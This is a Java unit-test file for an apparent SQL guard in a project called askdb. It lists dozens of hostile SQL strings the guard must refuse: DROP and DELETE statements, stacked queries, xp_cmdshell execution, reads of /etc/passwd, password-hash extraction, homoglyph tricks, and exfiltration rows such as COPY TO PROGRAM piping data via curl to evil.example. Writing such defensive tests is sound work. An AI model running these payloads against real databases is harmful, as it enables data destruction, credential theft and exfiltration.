package io.askdb.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.askdb.sql.SqlRejectedException.Reason;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and malformed SQL, one row per attack, each with the rule that must refuse it. The
 * embedded sample's dialect (H2 in SQL Server mode) unless a row names another.
 */
class SqlGuardHostileTest {

    private static final String C = "SalesLT.Customer";

    static Stream<Arguments> writes() {
        return Stream.of(
                arguments("INSERT INTO SalesLT.Customer (FirstName) VALUES ('x')", Reason.NOT_READ_ONLY),
                arguments("UPDATE SalesLT.Customer SET FirstName = 'x'", Reason.NOT_READ_ONLY),
                arguments("DELETE FROM SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("MERGE INTO SalesLT.Customer t USING SalesLT.Address s ON (1 = 1) WHEN MATCHED THEN DELETE",
                        Reason.NOT_READ_ONLY),
                arguments("UPSERT INTO SalesLT.Customer (CustomerID) VALUES (1)", Reason.NOT_READ_ONLY),
                arguments("REPLACE INTO SalesLT.Customer (CustomerID) VALUES (1)", Reason.NOT_READ_ONLY),
                arguments("TRUNCATE TABLE SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("CREATE TABLE stolen AS SELECT * FROM SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("CREATE VIEW v AS SELECT PasswordHash FROM SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("CREATE ALIAS SHELL AS 'String shell(String c) { return c; }'", Reason.NOT_READ_ONLY),
                arguments("ALTER TABLE SalesLT.Customer ADD Hacked INT", Reason.NOT_READ_ONLY),
                arguments("DROP TABLE SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("DROP DATABASE test", Reason.NOT_READ_ONLY),
                arguments("GRANT ALL ON SalesLT.Customer TO public", Reason.NOT_READ_ONLY),
                arguments("REVOKE SELECT ON SalesLT.Customer FROM public", Reason.NOT_READ_ONLY),
                arguments("SET search_path = evil, public", Reason.NOT_READ_ONLY),
                arguments("USE master", Reason.NOT_READ_ONLY),
                arguments("COPY SalesLT.Customer TO PROGRAM 'curl -d @- http://evil.example'", Reason.NOT_READ_ONLY),
                arguments("COPY (SELECT * FROM SalesLT.Customer) TO '/tmp/out.csv'", Reason.NOT_READ_ONLY),
                arguments("LOCK TABLE SalesLT.Customer IN ACCESS EXCLUSIVE MODE", Reason.NOT_READ_ONLY),
                arguments("VALUES (1), (2)", Reason.NOT_READ_ONLY),
                arguments("TABLE SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("WITH gone AS (DELETE FROM SalesLT.Customer RETURNING *) SELECT * FROM gone",
                        Reason.NOT_READ_ONLY),
                arguments("WITH n AS (INSERT INTO SalesLT.Address (City) VALUES ('x') RETURNING AddressID) SELECT * FROM n",
                        Reason.NOT_READ_ONLY),
                arguments("WITH u AS (UPDATE SalesLT.Product SET ListPrice = 0 RETURNING ProductID) SELECT * FROM u",
                        Reason.NOT_READ_ONLY),
                arguments("SELECT 1 SHUTDOWN", Reason.NOT_READ_ONLY),
                arguments("SELECT FirstName FROM SalesLT.Customer WAITFOR DELAY '00:00:05'", Reason.NOT_READ_ONLY),
                arguments("SELECT 1 COMMIT", Reason.NOT_READ_ONLY),
                arguments("BACKUP DATABASE sample TO DISK = 'c:\\\\x.bak'", Reason.NOT_READ_ONLY),
                arguments("DBCC CHECKDB", Reason.NOT_READ_ONLY),
                arguments("DECLARE @x INT", Reason.NOT_READ_ONLY),
                arguments("ATTACH DATABASE '/tmp/evil.db' AS evil", Reason.NOT_READ_ONLY),
                arguments("PRAGMA writable_schema = 1", Reason.NOT_READ_ONLY),
                arguments("EXPLAIN ANALYZE DELETE FROM SalesLT.Customer", Reason.NOT_READ_ONLY),
                arguments("RUNSCRIPT FROM 'http://evil.example/x.sql'", Reason.NOT_READ_ONLY),
                arguments("SCRIPT TO '/tmp/dump.sql'", Reason.NOT_READ_ONLY),
                arguments("BEGIN", Reason.NOT_READ_ONLY));
    }

    static Stream<Arguments> callsAndStacking() {
        return Stream.of(
                arguments("EXEC xp_cmdshell 'dir'", Reason.PROCEDURE_CALL),
                arguments("EXECUTE sp_executesql N'DROP TABLE SalesLT.Customer'", Reason.PROCEDURE_CALL),
                arguments("CALL do_something()", Reason.PROCEDURE_CALL),
                arguments("xp_cmdshell 'whoami'", Reason.PROCEDURE_CALL),
                arguments("sp_configure 'xp_cmdshell', 1", Reason.PROCEDURE_CALL),
                arguments("EXEC('DROP TABLE SalesLT.Customer')", Reason.PROCEDURE_CALL),
                arguments("SELECT 1 EXEC xp_cmdshell 'dir'", Reason.PROCEDURE_CALL),
                arguments("SELECT 1; DROP TABLE SalesLT.Customer", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT 1; SELECT 2", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT * FROM SalesLT.Product; DELETE FROM SalesLT.Product;", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT 1 /* ; */ ; DROP TABLE x", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT 1 --\n; DROP TABLE x", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT 'ok'; EXEC xp_cmdshell 'dir'", Reason.MULTIPLE_STATEMENTS),
                arguments(";SELECT 1", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT 1 # ; DROP TABLE x", Reason.MULTIPLE_STATEMENTS),
                arguments("SELECT $$ ; DROP TABLE x; $$", Reason.MULTIPLE_STATEMENTS));
    }

    static Stream<Arguments> hiddenAndInto() {
        return Stream.of(
                arguments("SELECT 1 -- ; DROP TABLE x", Reason.HIDDEN_STATEMENT),
                arguments("SELECT 1 /* DROP TABLE SalesLT.Customer */", Reason.HIDDEN_STATEMENT),
                arguments("SELECT 1 /*! DROP TABLE x */", Reason.HIDDEN_STATEMENT),
                arguments("SELECT 1 /*!50000 UNION SELECT PasswordHash FROM SalesLT.Customer */", Reason.HIDDEN_STATEMENT),
                arguments("SELECT 1 /*M! UNION SELECT 2 */", Reason.HIDDEN_STATEMENT),
                arguments("SELECT 'a\\' , ' ; DROP TABLE t; -- '", Reason.HIDDEN_STATEMENT),
                arguments("SELECT FirstName FROM SalesLT.Customer WHERE LastName = 'x\\'", Reason.HIDDEN_STATEMENT),
                arguments("SELECT {fn user()}", Reason.HIDDEN_STATEMENT),
                arguments("{call xp_cmdshell('dir')}", Reason.HIDDEN_STATEMENT),
                arguments("SELECT * INTO Stolen FROM SalesLT.Customer", Reason.SELECT_INTO),
                arguments("SELECT * INTO #tmp FROM SalesLT.Product", Reason.SELECT_INTO),
                arguments("SELECT * FROM SalesLT.Product INTO OUTFILE '/tmp/x.csv'", Reason.SELECT_INTO),
                arguments("SELECT Name FROM SalesLT.Product INTO DUMPFILE '/var/www/shell.php'", Reason.SELECT_INTO),
                arguments("SELECT FirstName INTO @who FROM SalesLT.Customer", Reason.SELECT_INTO),
                arguments("SELECT * FROM SalesLT.Customer FOR UPDATE", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product FOR SHARE", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product FOR NO KEY UPDATE", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product FOR KEY SHARE", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product FOR UPDATE SKIP LOCKED", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product LOCK IN SHARE MODE", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product WITH (UPDLOCK)", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product WITH (XLOCK, ROWLOCK)", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product p WITH (HOLDLOCK) WHERE p.ProductID = 1", Reason.LOCKING_CLAUSE),
                arguments("SELECT * FROM SalesLT.Product WITH (TABLOCKX)", Reason.LOCKING_CLAUSE));
    }

    static Stream<Arguments> functions() {
        return Stream.of(
                arguments("SELECT pg_sleep(10)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT FirstName FROM SalesLT.Customer WHERE CustomerID = 1 AND pg_sleep(5) IS NOT NULL",
                        Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT pg_catalog.pg_sleep(5)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT pg_read_file('/etc/passwd')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT pg_ls_dir('.')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT * FROM pg_ls_dir('/')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT pg_terminate_backend(1)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT lo_import('/etc/passwd')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT lo_export(1, '/tmp/x')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x INT)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT dblink_exec('host=evil', 'DROP TABLE x')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT set_config('log_statement', 'none', false)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT current_setting('data_directory')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT nextval('orders_seq')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT setval('orders_seq', 1)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT NEXT VALUE FOR orders_seq", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT query_to_xml('SELECT * FROM SalesLT.Customer', true, false, '')",
                        Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT table_to_xml('SalesLT.Customer', true, false, '')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT xp_cmdshell('dir')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT master..xp_cmdshell('dir')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT * FROM OPENQUERY(evil, 'SELECT 1')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t",
                        Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT LOAD_FILE('/etc/passwd')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT SLEEP(5)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT IF(SUBSTRING(Phone, 1, 1) = '1', SLEEP(5), 0) FROM SalesLT.Customer",
                        Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT BENCHMARK(10000000, MD5('x'))", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT GET_LOCK('x', 10)", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT sys_exec('id')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT UTL_HTTP.REQUEST('http://evil.example/' || FirstName) FROM SalesLT.Customer",
                        Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT DBMS_LOCK.SLEEP(5) FROM DUAL", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT load_extension('/tmp/evil.so')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT readfile('/etc/passwd')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT writefile('/tmp/x', 'y')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT FILE_READ('/etc/passwd')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT FILE_WRITE('x', '/tmp/x')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT * FROM CSVREAD('/etc/passwd')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT CSVWRITE('/tmp/c.csv', 'SELECT * FROM SalesLT.Customer')", Reason.FORBIDDEN_FUNCTION),
                arguments("SELECT LINK_SCHEMA('x', '', 'jdbc:h2:mem:y', 'sa', '', 'PUBLIC')", Reason.FORBIDDEN_FUNCTION));
    }

    static Stream<Arguments> catalogues() {
        return Stream.of(
                arguments("SELECT * FROM information_schema.columns", Reason.SYSTEM_CATALOG),
                arguments("SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES", Reason.SYSTEM_CATALOG),
                arguments("SELECT usename, passwd FROM pg_catalog.pg_shadow", Reason.SYSTEM_CATALOG),
                arguments("SELECT * FROM pg_user", Reason.SYSTEM_CATALOG),
                arguments("SELECT rolname FROM pg_roles", Reason.SYSTEM_CATALOG),
                arguments("SELECT user, authentication_string FROM mysql.user", Reason.SYSTEM_CATALOG),
                arguments("SELECT * FROM performance_schema.threads", Reason.SYSTEM_CATALOG),
                arguments("SELECT name FROM sys.sql_logins", Reason.SYSTEM_CATALOG),
                arguments("SELECT * FROM master..sysdatabases", Reason.SYSTEM_CATALOG),
                arguments("SELECT * FROM master.dbo.sysdatabases", Reason.SYSTEM_CATALOG),
                arguments("SELECT name FROM sysobjects WHERE xtype = 'U'", Reason.SYSTEM_CATALOG),
                arguments("SELECT sql FROM sqlite_master", Reason.SYSTEM_CATALOG),
                arguments("SELECT FirstName FROM SalesLT.Customer UNION SELECT column_name FROM information_schema.columns",
                        Reason.SYSTEM_CATALOG),
                arguments("SELECT FirstName FROM SalesLT.Customer WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_authid)",
                        Reason.SYSTEM_CATALOG),
                arguments("SELECT * FROM ALL_USERS", Reason.SYSTEM_CATALOG));
    }

    static Stream<Arguments> deniedColumns() {
        return Stream.of(
                arguments("SELECT PasswordHash FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT PasswordSalt AS s FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT c.PasswordHash FROM " + C + " c", Reason.DENIED_COLUMN),
                arguments("SELECT SalesLT.Customer.PasswordHash FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT passwordhash FROM saleslt.customer", Reason.DENIED_COLUMN),
                arguments("SELECT [PasswordHash] FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT \"PasswordSalt\" FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT UPPER(PasswordHash) FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT CAST(PasswordHash AS VARCHAR(10)) FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT CASE WHEN PasswordSalt LIKE 'a%' THEN 1 ELSE 0 END FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT CustomerID FROM " + C + " WHERE PasswordHash LIKE 'A%'", Reason.DENIED_COLUMN),
                arguments("SELECT CustomerID FROM " + C + " ORDER BY PasswordSalt", Reason.DENIED_COLUMN),
                arguments("SELECT CustomerID FROM " + C + " GROUP BY CustomerID HAVING MAX(PasswordHash) > 'a'",
                        Reason.DENIED_COLUMN),
                arguments("SELECT CustomerID, COUNT(*) OVER (PARTITION BY PasswordSalt) FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT a.CustomerID FROM " + C + " a JOIN " + C + " b ON a.PasswordHash = b.PasswordHash",
                        Reason.DENIED_COLUMN),
                arguments("SELECT a.CustomerID FROM " + C + " a JOIN " + C + " b USING (PasswordHash)",
                        Reason.DENIED_COLUMN),
                arguments("SELECT Name FROM SalesLT.Product UNION SELECT PasswordHash FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT FirstName FROM " + C + " UNION ALL SELECT PasswordSalt FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT Name FROM SalesLT.Product INTERSECT SELECT PasswordHash FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT Name FROM SalesLT.Product EXCEPT SELECT PasswordHash FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT Name, (SELECT TOP 1 PasswordHash FROM " + C + ") FROM SalesLT.Product",
                        Reason.DENIED_COLUMN),
                arguments("SELECT Name FROM SalesLT.Product WHERE Name IN (SELECT PasswordHash FROM " + C + ")",
                        Reason.DENIED_COLUMN),
                arguments("SELECT 1 WHERE EXISTS (SELECT 1 FROM " + C + " WHERE PasswordSalt = 'x')", Reason.DENIED_COLUMN),
                arguments("SELECT 1 FROM SalesLT.Product WHERE Name = ANY (SELECT PasswordHash FROM " + C + ")",
                        Reason.DENIED_COLUMN),
                arguments("WITH h AS (SELECT PasswordHash AS p FROM " + C + ") SELECT p FROM h", Reason.DENIED_COLUMN),
                arguments("WITH h(a, b) AS (SELECT CustomerID, PasswordSalt FROM " + C + ") SELECT a FROM h",
                        Reason.DENIED_COLUMN),
                arguments("SELECT x.p FROM (SELECT PasswordHash AS p FROM " + C + ") x", Reason.DENIED_COLUMN),
                arguments("SELECT * FROM " + C + " c CROSS APPLY (SELECT c.PasswordHash AS h) x", Reason.DENIED_COLUMN),
                arguments("SELECT (SELECT PasswordHash) FROM " + C, Reason.DENIED_COLUMN),
                arguments("SELECT row_to_json(c) FROM " + C + " c", Reason.DENIED_COLUMN),
                arguments("SELECT to_json(c.*) FROM " + C + " c", Reason.DENIED_COLUMN),
                arguments("SELECT COUNT(c) FROM " + C + " c", Reason.DENIED_COLUMN),
                arguments("SELECT c.n14 FROM " + C + " AS c(n1, n2, n3, n4, n5, n6, n7, n8, n9, n10, n11, n12, n13, n14)",
                        Reason.DENIED_COLUMN),
                arguments("SELECT COUNT(*) FROM " + C + " NATURAL JOIN (SELECT 'abc' AS PasswordHash) g",
                        Reason.DENIED_COLUMN),
                arguments("SELECT x.PasswordHash FROM (SELECT * FROM " + C + ") x", Reason.UNKNOWN_COLUMN));
    }

    static Stream<Arguments> charactersAndShape() {
        return Stream.of(
                arguments("SELECT 1 \u0000 FROM SalesLT.Product", Reason.INVALID_CHARACTER),
                arguments("SELECT Name\u0007 FROM SalesLT.Product", Reason.INVALID_CHARACTER),
                arguments("SELECT 1\u001b[2J", Reason.INVALID_CHARACTER),
                arguments("SELECT 1\u200B; DROP TABLE x", Reason.INVALID_CHARACTER),
                arguments("SELECT 'safe' \u202E -- DROP", Reason.INVALID_CHARACTER),
                arguments("\uFEFFSELECT 1", Reason.INVALID_CHARACTER),
                arguments("SELECT Name FROM SalesLT.Product WHERE Name = 'x\u2028'", Reason.INVALID_CHARACTER),
                arguments("SELECT \uFFFD FROM SalesLT.Product", Reason.INVALID_CHARACTER),
                arguments("SELECT '\uD800' FROM SalesLT.Product", Reason.INVALID_CHARACTER),
                arguments("S\u0415LECT 1", Reason.INVALID_CHARACTER),
                arguments("SELECT * FROM SalesLT.Cust\u043Emer", Reason.INVALID_CHARACTER),
                arguments("SELECT 1 FROM SalesLT.Product WHERE Name = 'x'\uFF1BDROP TABLE x", Reason.INVALID_CHARACTER),
                arguments("SELECT \uFF0A FROM SalesLT.Customer", Reason.INVALID_CHARACTER),
                arguments("\uD835\uDC12\uD835\uDC04\uD835\uDC0B\uD835\uDC04\uD835\uDC02\uD835\uDC13 1", Reason.INVALID_CHARACTER),
                arguments("SELECT\u00A01", Reason.INVALID_CHARACTER),
                arguments("SEL\u00ADECT 1", Reason.INVALID_CHARACTER),
                arguments("SELECT " + "(".repeat(50) + "1" + ")".repeat(50), Reason.TOO_COMPLEX),
                arguments("SELECT '" + "x".repeat(SqlGuard.MAX_SQL_LENGTH) + "'", Reason.TOO_LONG),
                arguments("SELECT " + "1,".repeat(3000) + "1", Reason.TOO_LONG),
                arguments("", Reason.EMPTY),
                arguments("   \n\t ", Reason.EMPTY),
                arguments("-- nothing but a comment", Reason.EMPTY),
                arguments(";", Reason.EMPTY),
                arguments("SELECT FROM", Reason.PARSE_ERROR),
                arguments("SELECT * FROM", Reason.PARSE_ERROR),
                arguments("SELECT * FROM SalesLT.Customer WHERE", Reason.PARSE_ERROR),
                arguments("SELECT 'unterminated", Reason.PARSE_ERROR),
                arguments("SELECT 1 /* unterminated", Reason.PARSE_ERROR),
                arguments("SELECT 1 FROM (SELECT 1", Reason.PARSE_ERROR),
                arguments("SELECT SELECT", Reason.PARSE_ERROR),
                arguments("SELEC Name FROM SalesLT.Product", Reason.PARSE_ERROR),
                arguments("SHOW TABLES", Reason.NOT_READ_ONLY),
                arguments("some_procedure @id = 1", Reason.PARSE_ERROR),
                arguments("SELECT Name FROM SalesLT.Prodcut", Reason.UNKNOWN_TABLE),
                arguments("SELECT Nmae FROM SalesLT.Product", Reason.UNKNOWN_COLUMN),
                arguments("SELECT * FROM users", Reason.UNKNOWN_TABLE));
    }

    @ParameterizedTest(name = "[{index}] {1}: {0}")
    @MethodSource({"writes", "callsAndStacking", "hiddenAndInto", "functions", "catalogues", "deniedColumns",
            "charactersAndShape"})
    void should_refuse_with_the_broken_rule_when_sql_is_hostile_or_malformed(String sql, Reason expected) {
        SqlGuard guard = GuardFixture.guard(Dialect.H2_MSSQL);

        assertThatThrownBy(() -> guard.check(sql))
                .isInstanceOfSatisfying(SqlRejectedException.class, e -> {
                    assertThat(e.reason()).isEqualTo(expected);
                    assertThat(e.getMessage()).isNotBlank();
                    assertThat(e.retryable()).isFalse();
                });
    }

    static Stream<Arguments> dialectSpecific() {
        return Stream.of(
                arguments(Dialect.MYSQL, "SELECT 1 # DROP TABLE x", Reason.HIDDEN_STATEMENT),
                arguments(Dialect.MYSQL, "SELECT 1 #\n; DROP TABLE x", Reason.MULTIPLE_STATEMENTS),
                arguments(Dialect.MYSQL, "SELECT `PasswordHash` FROM SalesLT.Customer", Reason.DENIED_COLUMN),
                arguments(Dialect.MYSQL, "SELECT Name FROM SalesLT.Product WHERE Name LIKE 'a\\_%' ESCAPE '\\'",
                        Reason.HIDDEN_STATEMENT),
                arguments(Dialect.MYSQL, "SELECT \"x\\\" ; DROP TABLE t; -- \"", Reason.HIDDEN_STATEMENT),
                arguments(Dialect.POSTGRESQL, "SELECT E'\\' ; DROP TABLE t; --'", Reason.HIDDEN_STATEMENT),
                arguments(Dialect.POSTGRESQL, "SELECT arr[1] FROM t; DROP TABLE x --]", Reason.MULTIPLE_STATEMENTS),
                arguments(Dialect.POSTGRESQL, "COPY (SELECT 1) TO PROGRAM 'id'", Reason.NOT_READ_ONLY),
                arguments(Dialect.SQLITE, "SELECT load_extension('/tmp/x')", Reason.FORBIDDEN_FUNCTION),
                arguments(Dialect.SQLITE, "SELECT name FROM sqlite_schema", Reason.SYSTEM_CATALOG),
                arguments(Dialect.SQLITE, "SELECT * FROM pragma_table_info('Customer')", Reason.FORBIDDEN_FUNCTION),
                arguments(Dialect.MYSQL, "SELECT Name FROM SalesLT.Product PROCEDURE ANALYSE()", Reason.PROCEDURE_CALL),
                arguments(Dialect.MYSQL, "DO SLEEP(5)", Reason.NOT_READ_ONLY),
                arguments(Dialect.ANSI, "SELECT * FROM SalesLT.Customer FOR UPDATE OF FirstName", Reason.LOCKING_CLAUSE),
                arguments(Dialect.SQLSERVER, "SELECT * FROM SalesLT.Customer; SHUTDOWN WITH NOWAIT",
                        Reason.MULTIPLE_STATEMENTS));
    }

    @ParameterizedTest(name = "[{index}] {0} {2}: {1}")
    @MethodSource("dialectSpecific")
    void should_refuse_dialect_specific_tricks_when_the_target_database_would_fall_for_them(
            Dialect dialect, String sql, Reason expected) {
        assertThatThrownBy(() -> GuardFixture.guard(dialect).check(sql))
                .isInstanceOfSatisfying(SqlRejectedException.class, e -> assertThat(e.reason()).isEqualTo(expected));
    }

    @Test
    void should_allow_system_catalogue_reads_when_the_guard_is_told_to() {
        SqlGuard open = new SqlGuard(SalesLtCatalog.catalog(), Dialect.H2, SalesLtCatalog.DENY, 100, true);

        GuardedSql guarded = open.check("SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES");

        assertThat(guarded.sql()).isEqualTo("SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES LIMIT 100");
        assertThat(guarded.tables()).isEmpty();
    }

    @Test
    void should_name_the_statement_kind_when_refusing_a_write() {
        assertThatThrownBy(() -> GuardFixture.guard(Dialect.H2_MSSQL).check("DELETE FROM SalesLT.Customer"))
                .hasMessageContaining("DELETE");
    }

    @Test
    void should_give_the_parser_message_when_sql_does_not_parse() {
        assertThatThrownBy(() -> GuardFixture.guard(Dialect.H2_MSSQL).check("SELECT Name FROM SalesLT.Product WHERE"))
                .hasMessageStartingWith("the SQL does not parse: ")
                .hasMessageContaining("line 1")
                .hasMessageNotContaining("Was expecting");
    }
}
